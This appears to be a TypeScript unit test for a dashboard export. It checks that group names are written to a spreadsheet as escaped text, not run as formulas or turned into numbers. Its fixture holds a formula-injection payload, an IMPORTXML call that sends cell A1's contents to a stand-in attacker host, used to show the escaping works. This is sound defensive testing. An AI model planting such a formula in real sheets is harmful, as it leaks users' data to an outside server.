// Group names on the Dashboard tab are what an admin typed (or a department a staff import brought): they reach
// the sheet as text, never as a formula run with the admin's access, and "2026" stays a name, not a number.
import { dashboardRows, type DashboardInput } from '../../../src/core/metrics/dashboard';

const evil = '=IMPORTXML("https://evil.example/?"&A1,"//a") PLG';

test('a group named like a formula, or like a year, is written as its words', () => {
  const rows = dashboardRows({
    asOf: '2026-10-20',
    feedback: [],
    health: [],
    facilitators: [],
    diagnosis: [],
    attendance: [
      { group: 'EVIL', held: 2, rate: 0.5, unrecorded: [] },
      { group: 'Y26', held: 1, rate: 1, unrecorded: [] },
    ] as unknown as DashboardInput['attendance'],
    coverage: [],
    protocols: [],
    hours: [],
    groupNames: new Map([
      ['EVIL', evil],
      ['Y26', '2026'],
    ]),
    notCounted: {},
  });
  const names = rows.map((r) => r[0]);
  expect(names).toContain(`'${evil}`);
  expect(names).toContain("'2026");
  expect(names).not.toContain(evil);
});
